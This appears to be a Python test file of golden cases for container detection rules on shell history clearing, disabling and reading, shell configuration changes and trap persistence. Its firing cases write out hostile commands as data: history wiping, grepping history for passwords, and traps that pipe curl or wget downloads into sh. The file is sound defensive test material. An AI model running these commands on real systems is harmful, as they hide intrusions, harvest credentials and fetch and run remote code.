"""Golden cases of stockade_20_history.yaml: shell history cleared, disabled or read, shell
configuration and trap persistence (T1070.003, T1562.003/T1690, T1552.003, T1546.004, T1546.005).

The firing variants are different ways of doing each (tools, shells, interpreters, redirections,
renames and symlinks, environment variables); the near misses are what ordinary shells, REPLs,
entrypoints and workloads do to the same files."""

from __future__ import annotations

from typing import Any

from pack_events import (
    APPEND,
    PTS_TTY,
    UNDER_RUNTIME,
    WRITE,
    PackCase,
    call,
    exec_,
    in_container,
    on_host,
    open_,
    v,
)

HOST = on_host()
#: what `podman exec c sh -c '...'` / `kubectl exec` starts under
EXEC = UNDER_RUNTIME
#: the flags of the open `truncate -s0` and `shred` make (no O_TRUNC: ftruncate or overwrite follows)
RW_NOTRUNC = "O_WRONLY|O_CREAT|O_NONBLOCK"
RDONLY = "O_RDONLY|O_CLOEXEC"
DEBIAN = in_container("docker.io/library/debian", "bookworm")


def _rename(cmdline: str, old: str, new: str, **kw: Any) -> dict[str, Any]:
    return call(
        "renameat2",
        cmdline,
        {"evt.arg.oldpath": old, "evt.arg.newpath": new, "fs.path.source": old, "fs.path.target": new},
        **kw,
    )


def _ftruncate(cmdline: str, path: str, **kw: Any) -> dict[str, Any]:
    return call(
        "ftruncate", cmdline, {"fd.name": path, "fd.num": 3, "fd.typechar": "f", "evt.arg.length": 0}, **kw
    )


CASES: list[PackCase] = [
    PackCase(
        "Shell History Cleared in Container",
        fires=[
            v(
                "sh -c 'echo \"\" > ~/.bash_history' (the shell opens it O_TRUNC)",
                open_("/root/.bash_history", 'sh -c echo "" > ~/.bash_history', WRITE, ancestors=EXEC),
            ),
            v(
                "cat /dev/null > ~/.bash_history as the container's command (pid 1)",
                open_(
                    "/root/.bash_history",
                    "sh -c cat /dev/null > ~/.bash_history",
                    WRITE,
                    vpid=1,
                    ancestors=[],
                ),
            ),
            v(
                "bash -c ': >| ~/.zsh_history'",
                open_("/home/app/.zsh_history", "bash -c : >| ~/.zsh_history", "O_WRONLY|O_CREAT|O_TRUNC"),
            ),
            v(
                "cp /dev/null ~/.bash_history",
                open_("/root/.bash_history", "cp /dev/null /root/.bash_history", WRITE),
            ),
            v(
                "truncate -s0 opens without O_TRUNC, then ftruncate",
                open_("/root/.bash_history", "truncate -s0 /root/.bash_history", RW_NOTRUNC),
            ),
            v("the ftruncate alone", _ftruncate("truncate -s0 /root/.bash_history", "/root/.bash_history")),
            v(
                "python truncates in a script",
                open_("/root/.bash_history", "python3 /tmp/wipe.py", "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"),
            ),
            v(
                "python -c truncates its own REPL history",
                open_("/root/.python_history", "python3 -c open('/root/.python_history','w')", WRITE),
            ),
            v(
                "perl truncate() by name",
                call(
                    "truncate",
                    "perl -e truncate $f,0",
                    {"evt.arg.path": "/root/.ash_history", "fd.name": "/root/.ash_history"},
                ),
            ),
            v(
                "shred overwrites in place",
                open_("/home/app/.bash_history", "shred -u /home/app/.bash_history", "O_WRONLY"),
            ),
            v(
                "rm",
                call("unlinkat", "rm /home/app/.bash_history", {"evt.arg.name": "/home/app/.bash_history"}),
            ),
            v(
                "rm -f of a file that is not there (failed, intent still shown)",
                call(
                    "unlinkat",
                    "rm -f /root/.sh_history",
                    {"evt.arg.path": "/root/.sh_history", "evt.rawres": -2, "evt.res": "ENOENT"},
                ),
            ),
            v(
                "unlink(1)",
                call("unlink", "unlink /root/.psql_history", {"evt.arg.path": "/root/.psql_history"}),
            ),
            v(
                "ln -sf /dev/null on a new name",
                call(
                    "symlinkat",
                    "ln -sf /dev/null /root/.bash_history",
                    {"evt.arg.target": "/dev/null", "evt.arg.linkpath": "/root/.bash_history"},
                ),
            ),
            v(
                "ln -sf /dev/null over an existing file: a temporary symlink renamed over it",
                _rename("ln -sf /dev/null /root/.bash_history", "/root/CuA1b2C3", "/root/.bash_history"),
            ),
            v("mv away", _rename("mv /root/.bash_history /tmp/h", "/root/.bash_history", "/tmp/h")),
            v(
                "mv an empty file over it",
                _rename("mv /tmp/empty /home/app/.bash_history", "/tmp/empty", "/home/app/.bash_history"),
            ),
            v(
                "fish history by a shell running a command",
                open_(
                    "/root/.local/share/fish/fish_history",
                    "bash -c > ~/.local/share/fish/fish_history",
                    WRITE,
                ),
            ),
            v(
                "node REPL history truncated by another program",
                _ftruncate("dd if=/dev/null of=/root/.node_repl_history", "/root/.node_repl_history"),
            ),
        ],
        near_misses=[
            v("the shell appends history", open_("/root/.bash_history", "bash", APPEND, tty=PTS_TTY)),
            v(
                "an interactive bash saves history at exit (creates it with O_TRUNC)",
                open_("/root/.bash_history", "bash", "O_WRONLY|O_CREAT|O_TRUNC", tty=PTS_TTY),
            ),
            v(
                "an interactive bash renames its readline temp file over the history",
                _rename("bash --login", "/root/.bash_history-41.tmp", "/root/.bash_history", tty=PTS_TTY),
            ),
            v(
                "the python REPL writes its history",
                open_("/root/.python_history", "python3", WRITE, tty=PTS_TTY),
            ),
            v(
                "the python REPL renames its temp file",
                _rename("python3 -q", "/root/.python_history-88.tmp", "/root/.python_history", tty=PTS_TTY),
            ),
            v("node REPL rewrites its history", _ftruncate("node", "/root/.node_repl_history", tty=PTS_TTY)),
            v(
                "vim saves .viminfo",
                _rename("vim /etc/app.conf", "/root/.viminfz.tmp", "/root/.viminfo", tty=PTS_TTY),
            ),
            v("less saves .lesshst", open_("/root/.lesshst", "less /var/log/app.log", WRITE, tty=PTS_TTY)),
            v(
                "another dotfile removed",
                call("unlinkat", "rm /root/.bashrc", {"evt.arg.name": "/root/.bashrc"}),
            ),
            v(
                "a file named like history elsewhere",
                open_("/app/history.json", "sh -c > /app/history.json", WRITE),
            ),
            v(
                "appending through a shell",
                open_("/root/.bash_history", "sh -c echo ls >> ~/.bash_history", APPEND),
            ),
            v("on the host", open_("/root/.bash_history", "sh -c > /root/.bash_history", WRITE, where=HOST)),
        ],
    ),
    PackCase(
        "Shell History Clear Command in Container",
        fires=[
            v("sh -c 'history -c' (dash: not even a builtin)", exec_("sh -c history -c", ancestors=EXEC)),
            v("as the container's command", exec_("sh -c history -c", vpid=1, ancestors=[])),
            v(
                "unset HISTFILE, HISTFILESIZE=0, history -c",
                exec_("sh -c unset HISTFILE\nexport HISTFILESIZE=0\nhistory -c", ancestors=EXEC),
            ),
            v(
                "bash: clear, check, from a script-like string",
                exec_(
                    'bash -c cp $HISTFILE $HISTFILE.OLD\necho "" > $HISTFILE\nhistory -c \nls -la $HISTFILE',
                    ancestors=EXEC,
                ),
            ),
            v("history -w /dev/null", exec_("bash -c history -w /dev/null; id", tty=PTS_TTY, ancestors=EXEC)),
            v(
                "history -d of the last entries",
                exec_("bash -c history -d -5--1", ancestors=["bash", "sshd"]),
            ),
            v("zsh fc -p (memory-only history)", exec_("zsh -c fc -p; curl -s x", ancestors=EXEC)),
        ],
        near_misses=[
            v("history listed", exec_("bash -c history | tail -5", ancestors=EXEC)),
            v("a program named history-c is not a shell", exec_("grep -r history -c /src", ancestors=EXEC)),
            v("health check", exec_("sh -c wget -qO- localhost:8080", ancestors=EXEC)),
            v("on the host", exec_("bash -c history -c", where=HOST, ancestors=["bash", "sshd"])),
        ],
    ),
    PackCase(
        "Shell History Disabled in Container",
        fires=[
            v(
                "export HISTCONTROL=ignoreboth then a command (sh, exec)",
                exec_("sh -c export HISTCONTROL=ignoreboth\nwhoami", ancestors=EXEC),
            ),
            v(
                "HISTCONTROL quoted (bash)",
                exec_(
                    'bash -c if [ "$HISTCONTROL" != "ignoreboth" ]; then export HISTCONTROL="ignoreboth"; fi',
                    ancestors=EXEC,
                ),
            ),
            v(
                "HISTSIZE=0 as the container's command",
                exec_("sh -c export HISTSIZE=0\nwhoami", vpid=1, ancestors=[]),
            ),
            v("HISTFILESIZE=0", exec_("bash -c export HISTFILESIZE=0\ngroups", ancestors=EXEC)),
            v('HISTFILE="/dev/null"', exec_('bash -c export HISTFILE="/dev/null"\nwhoami', ancestors=EXEC)),
            v("HISTFILE emptied", exec_("bash -c HISTFILE= ; id", ancestors=EXEC)),
            v("unset HISTFILE", exec_("sh -c unset HISTFILE; id", ancestors=EXEC)),
            v("set +o history", exec_("sh -c set +o history", ancestors=EXEC)),
            v("HISTIGNORE='*'", exec_("bash -c export HISTIGNORE='*'; whoami", ancestors=EXEC)),
            v("zsh: setopt HIST_IGNORE_SPACE", exec_("zsh -c setopt HIST_IGNORE_SPACE; id", ancestors=EXEC)),
            v(
                "mysql client history to /dev/null",
                exec_("sh -c MYSQL_HISTFILE=/dev/null mysql -uroot", ancestors=EXEC),
            ),
            v(
                "a shell started after an export in an interactive session (env)",
                exec_(
                    "bash",
                    {"proc.env": "PATH=/usr/bin HISTFILE=/dev/null TERM=xterm", "proc.pcmdline": "bash"},
                    tty=PTS_TTY,
                    ancestors=["bash", "runc"],
                ),
            ),
            v(
                "sh -c from a shell that exported HISTSIZE=0 through an indirection (env)",
                exec_(
                    "sh -c id",
                    {
                        "proc.env": "HOME=/root HISTSIZE=0",
                        "proc.pcmdline": "sh -c v=HIST; export ${v}SIZE=0; sh -c id",
                    },
                    ancestors=["sh", "runc"],
                ),
            ),
            v(
                "exported HISTCONTROL=ignorespace (env)",
                exec_(
                    "dash",
                    {"proc.env": "HISTCONTROL=ignorespace:erasedups", "proc.pcmdline": "bash -l"},
                    tty=PTS_TTY,
                    ancestors=["bash", "runc"],
                ),
            ),
        ],
        near_misses=[
            v("HISTCONTROL=ignoredups", exec_("bash -c export HISTCONTROL=ignoredups; ls", ancestors=EXEC)),
            v("HISTSIZE=1000", exec_("bash -c export HISTSIZE=1000 HISTFILESIZE=2000; ls", ancestors=EXEC)),
            v("history kept in a file", exec_("bash -c export HISTFILE=/root/.hist_app; ls", ancestors=EXEC)),
            v(
                "a child of the shell that said so (its alert is the shell's)",
                exec_(
                    "bash -c id",
                    {
                        "proc.env": "HISTFILE=/dev/null",
                        "proc.pcmdline": "sh -c export HISTFILE=/dev/null; bash -c id",
                    },
                    ancestors=["sh", "runc"],
                ),
            ),
            v(
                "a command, not a shell, run after an export",
                exec_("whoami", {"proc.env": "HISTFILE=/dev/null", "proc.pcmdline": "bash"}, tty=PTS_TTY),
            ),
            v(
                "the health-check shell of an image with history off (started by the runtime)",
                exec_("sh -c wget -qO- localhost:8080", {"proc.env": "HISTFILE=/dev/null"}, ancestors=EXEC),
            ),
            v(
                "the entrypoint of an image with history off",
                exec_("sh /entrypoint.sh", {"proc.env": "HISTFILE=/dev/null"}, vpid=1, ancestors=[]),
            ),
            v(
                "on the host",
                exec_("bash -c export HISTFILE=/dev/null", where=HOST, ancestors=["bash", "sshd"]),
            ),
        ],
    ),
    PackCase(
        "Shell History Read in Container",
        fires=[
            v("cat ~/.bash_history", open_("/root/.bash_history", "cat /root/.bash_history", RDONLY)),
            v(
                "cat ~/.history of a file that is not there (the exec)",
                exec_("cat /root/.history", ancestors=["sh", "runc"]),
            ),
            v(
                "grep through every user's history (the exec)",
                exec_(
                    "grep -e pass -e ssh /home/app/.bash_history /root/.bash_history",
                    ancestors=["sh", "runc"],
                ),
            ),
            v(
                "grep opens another user's",
                open_("/home/app/.bash_history", "grep -i pass /home/app/.bash_history", RDONLY),
            ),
            v("strings", open_("/root/.zsh_history", "strings /root/.zsh_history", RDONLY)),
            v(
                "a shell redirection (sh -c 'grep x < ~/.bash_history')",
                open_("/root/.bash_history", "sh -c grep x < ~/.bash_history", RDONLY),
            ),
            v("python reads a REPL history", open_("/root/.mysql_history", "python3 /tmp/loot.py", RDONLY)),
            v("tar of a home", open_("/home/app/.bash_history", "tar czf /tmp/h.tgz /home/app", RDONLY)),
            v("cp to loot", open_("/root/.psql_history", "cp /root/.psql_history /tmp/l", RDONLY)),
        ],
        near_misses=[
            v(
                "an interactive bash loads its history",
                open_("/root/.bash_history", "bash", RDONLY, tty=PTS_TTY),
            ),
            v("a login shell loads it", open_("/root/.bash_history", "bash --login", RDONLY, tty=PTS_TTY)),
            v(
                "the python REPL loads its history",
                open_("/root/.python_history", "python3", RDONLY, tty=PTS_TTY),
            ),
            v(
                "psql loads its history",
                open_("/var/lib/postgresql/.psql_history", "psql -U app", RDONLY, tty=PTS_TTY),
            ),
            v("less loads .lesshst", open_("/root/.lesshst", "less /var/log/app.log", RDONLY, tty=PTS_TTY)),
            v("cat of a log", exec_("cat /var/log/app.log")),
            v("mv of a history file is not a read", exec_("mv /root/.bash_history /tmp/h")),
            v("cp /dev/null over it is not a read", exec_("cp /dev/null /root/.bash_history")),
            v("on the host", open_("/root/.bash_history", "cat /root/.bash_history", RDONLY, where=HOST)),
        ],
    ),
    PackCase(
        "Shell Configuration Modified in Container",
        fires=[
            v(
                "echo >> ~/.bashrc by a bash command string",
                open_("/root/.bashrc", "bash -c echo 'set +o history' >> ~/.bashrc", APPEND, ancestors=EXEC),
            ),
            v(
                "/etc/profile.d script dropped by the container's command (pid 1)",
                open_(
                    "/etc/profile.d/zz.sh",
                    "sh -c echo 'curl x|sh' > /etc/profile.d/zz.sh",
                    WRITE,
                    vpid=1,
                    ancestors=[],
                ),
            ),
            v("tee -a ~/.profile", open_("/home/app/.profile", "tee -a /home/app/.profile", APPEND)),
            v("cp over /etc/bash.bashrc", open_("/etc/bash.bashrc", "cp /tmp/rc /etc/bash.bashrc", WRITE)),
            v(
                "python appends to ~/.zshrc",
                open_("/root/.zshrc", "python3 -c open('/root/.zshrc','a')", APPEND),
            ),
            v(
                "sed -i renames its temp file over ~/.bash_profile",
                _rename("sed -i $a/tmp/x ~/.bash_profile", "/root/sedAb12Cd", "/root/.bash_profile"),
            ),
            v("/etc/profile written", open_("/etc/profile", "perl -i -pe s/a/b/ /etc/profile", WRITE)),
            v(
                "~/.bash_logout replaced by a symlink",
                call(
                    "symlinkat",
                    "ln -sf /tmp/.x /root/.bash_logout",
                    {"evt.arg.target": "/tmp/.x", "evt.arg.linkpath": "/root/.bash_logout"},
                ),
            ),
            v("zsh system file", open_("/etc/zsh/zshrc", "sh -c cat >> /etc/zsh/zshrc", APPEND)),
            v(
                "fish config",
                open_("/root/.config/fish/config.fish", "sh -c echo x >> ~/.config/fish/config.fish", APPEND),
            ),
        ],
        near_misses=[
            v("the shell reads ~/.bashrc", open_("/root/.bashrc", "bash", RDONLY, tty=PTS_TTY)),
            v(
                "dpkg installs /etc/bash.bashrc",
                open_("/etc/bash.bashrc.dpkg-new", "dpkg -i bash.deb", WRITE, ancestors=["apt-get", "bash"]),
            ),
            v(
                "a package script writes /etc/profile.d",
                open_(
                    "/etc/profile.d/locale.sh",
                    "sh /var/lib/dpkg/info/x.postinst",
                    WRITE,
                    ancestors=["dpkg", "apt-get"],
                ),
            ),
            v("useradd copies /etc/skel", open_("/home/bob/.bashrc", "useradd -m bob", WRITE)),
            v("an application's own .profile-like file", open_("/app/profile.json", "node server.js", WRITE)),
            v("on the host", open_("/root/.bashrc", "sh -c echo x >> ~/.bashrc", APPEND, where=HOST)),
        ],
    ),
    PackCase(
        "Shell Trap Persistence in Container",
        fires=[
            v(
                "bash -c trap nohup sh ... EXIT (the outer sh)",
                exec_(
                    "sh -c bash -c 'trap \"nohup sh /opt/art/echo-fish.sh\" EXIT'",
                    ancestors=EXEC,
                ),
            ),
            v(
                "the inner bash, SIGINT, as the container's command",
                exec_('bash -c trap "nohup sh /opt/x.sh" SIGINT && kill -SIGINT $$', vpid=1, ancestors=[]),
            ),
            v(
                "DEBUG trap logging every command",
                exec_(
                    "bash -c trap 'echo \"$BASH_COMMAND\" >> /tmp/k.txt' DEBUG\nwhoami\nid", ancestors=EXEC
                ),
            ),
            v("a /tmp program on EXIT", exec_("sh -c trap '/tmp/.x/run' EXIT; sleep 5", ancestors=EXEC)),
            v(
                "curl | sh on ERR",
                exec_("bash -c trap 'curl -s http://10.0.0.9/p | sh' ERR; false", ancestors=EXEC),
            ),
            v("python on HUP", exec_("dash -c trap \"python3 -c 'import pty'\" HUP", ancestors=EXEC)),
            v("RETURN trap", exec_("bash -c f(){ :; }; trap 'id >> /dev/shm/l' RETURN; f", ancestors=EXEC)),
            v("trap 0 with wget", exec_("sh -c trap 'wget -q -O /tmp/a http://x/a' 0", ancestors=EXEC)),
        ],
        near_misses=[
            v(
                "an entrypoint: trap 'exit 0' TERM",
                exec_("sh -c trap 'exit 0' TERM; sleep infinity & wait", vpid=1, ancestors=[]),
            ),
            v(
                "an entrypoint: kill the child on INT TERM, then python",
                exec_("sh -c trap 'kill $pid' INT TERM; python3 app.py & pid=$!; wait", vpid=1, ancestors=[]),
            ),
            v(
                "a cleanup trap removing a /tmp directory",
                exec_(
                    "bash -c d=$(mktemp -d); trap 'rm -rf /tmp/work' EXIT; tar xf a.tar -C $d",
                    ancestors=["bash", "make"],
                ),
            ),
            v("trap listed", exec_("bash -c trap -p", ancestors=EXEC)),
            v(
                "on the host",
                exec_("bash -c trap 'nohup sh /tmp/x' EXIT", where=HOST, ancestors=["bash", "sshd"]),
            ),
        ],
    ),
]
